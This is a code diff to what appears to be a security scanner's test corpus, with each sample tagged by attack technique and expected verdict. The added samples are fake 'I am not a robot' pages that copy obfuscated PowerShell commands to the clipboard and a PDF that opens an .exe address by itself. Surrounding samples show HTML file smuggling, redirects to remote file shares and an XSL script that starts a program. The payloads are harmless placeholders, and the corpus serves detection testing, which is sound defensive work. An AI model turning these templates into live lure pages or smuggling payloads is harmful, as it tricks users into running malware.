@@ -28,6 +28,9 @@ pub(super) fn all() -> Vec<Standin> {
     let smuggled = |name, what, body: String| {
         Standin::new("A16", PAGES, name, what, html("", &body)).kind("html").technique("T1027.006").blocked()
     };
+    let fix = |what, body: &str| {
+        Standin::new("A17", PAGES, "check.html", what, html("", body)).kind("html").technique("T1204.004").suspicious()
+    };
     let veiled_page = |name, what, body: String| {
         Standin::new("A16", PAGES, name, what, html("", &body)).kind("html").technique("T1027.006").suspicious().held()
     };
@@ -51,6 +54,10 @@ pub(super) fn all() -> Vec<Standin> {
         Standin::new("A13", PDFS, "export.pdf", "a script that opens an embedded file", in_stream).kind("pdf").held(),
         veiled_page("offer.html", "a page that hides a file in a form and spells nothing out", format!("<body onload=\"go()\"><input type=hidden id=q value=\"{coded}\"><script>function go(){{var v=document.all.q.value;var w=window[\"at\"+\"ob\"](v);var n=w.length,u=new Uint8Array(n);while(n--)u[n]=w.charCodeAt(n);var k=window[\"Bl\"+\"ob\"];var b=new k([u]);var a=document.createElement(\"a\");a.href=window.URL[\"createObject\"+\"URL\"](b);a.download=\"a.com\";a.click()}}</script></body>")),
         veiled_page("offer.html", "a page that makes a file of veiled numbers", format!("<script>var d=[{}];var o=new Uint8Array(d.length);for(var i=0;i<d.length;i++)o[i]=d[i]^90;var f=new File([o],\"a.zip\");location.href=URL.createObjectURL(f);</script>", veiled.join(","))),
+        fix("a page that copies a command in pieces", "<p>Press the Windows key + X and choose Terminal.</p><button>OK</button><script>const p=[\"power\",\"shell\",\" -c \",\"echo hello\"];document.querySelector(\"button\").onclick=()=>navigator.clipboard.writeText(p.join(\"\"))</script>").held(),
+        fix("a page that copies a command in percent codes", "<p>I am not a robot</p><script>addEventListener(\"copy\",e=>{e.clipboardData.setData(\"text/plain\",decodeURIComponent(\"%70%6f%77%65%72shell%20-c%20echo%20hello\"));e.preventDefault()})</script>").held(),
+        fix("a page that copies a command in numbers", "<p>I am not a robot</p><script>navigator.clipboard.writeText([112,111,119,101,114,115,104,101,108,108,32,45,99,32,101,99,104,111].map(c=>String.fromCharCode(c)).join(''))</script>").blocked(),
+        document("scan.pdf", "a PDF that opens an address by itself", &action("/S /URI /URI (https://host.invalid/offer.exe)")).finds("pdf.opens-address").held(),
         Standin::new("A18", PAGES, "offer.html", "a page that goes to a file share", html("", "<meta http-equiv=\"refresh\" content=\"0;url=file://host.invalid/share/a\">")).technique("T1187").held(),
         Standin::new("A18", PAGES, "offer.html", "a page that shows the files of another machine", html("", "<script>location.href=\"search-ms:query=offer&crumb=location:\\\\\\\\host.invalid\\\\share&displayname=Downloads\"</script>")).technique("T1187").held(),
         Standin::new("A18", PAGES, "offer.xsl", "a style sheet with a script that starts a program", b"<?xml version=\"1.0\"?><stylesheet xmlns=\"http://www.w3.org/1999/XSL/Transform\" xmlns:ms=\"urn:schemas-microsoft-com:xslt\" version=\"1.0\"><ms:script language=\"JScript\"><![CDATA[new ActiveXObject(\"WScript.Shell\").Run(\"calc\");]]></ms:script></stylesheet>".to_vec()).proves("detect/scripts").finds("script.runs-program").held(),
